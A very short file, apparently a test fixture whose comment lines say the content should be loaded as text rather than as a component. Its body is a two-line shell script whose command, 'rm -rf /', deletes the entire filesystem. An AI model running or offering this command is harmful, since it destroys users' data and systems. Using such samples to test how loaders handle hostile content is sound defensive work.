;; in: load
;; says: is text, not a component
;; form: file
#!/bin/sh
rm -rf /
